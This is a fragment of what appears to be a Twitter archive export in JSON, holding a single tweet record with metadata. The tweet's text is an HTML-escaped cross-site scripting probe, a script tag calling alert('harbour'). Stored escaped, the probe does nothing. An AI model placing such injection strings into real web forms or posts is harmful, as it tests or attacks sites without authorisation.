      "favorite_count" : "0",
      "id_str" : "1610939159150480851",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1610939159150480851",
      "possibly_sensitive" : false,
      "created_at" : "Thu Jan 05 10:00:00 +0000 2023",
      "favorited" : false,
      "full_text" : "&lt;script&gt;alert('harbour')&lt;/script&gt; #tag https://t.co/JRHnFXAtnP",
      "lang" : "en"
    }
  }
]